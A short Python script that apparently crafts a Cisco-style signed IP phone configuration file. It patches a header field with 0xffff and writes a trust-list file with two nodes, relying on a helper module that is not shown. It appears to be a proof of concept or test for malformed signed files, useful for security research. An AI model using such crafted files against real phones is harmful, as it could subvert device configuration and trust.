from signed_and_certificates import *

whole = sgn("SEP001122334455.cnf.xml.sgn", configuration())
at = whole.index(bytes.fromhex("0c0100"))
write("SEP001122334455.cnf.xml.sgn", patch(whole, at + 1, b"\xff\xff"))
write("ITLSEP001122334455.tlv", two_nodes())
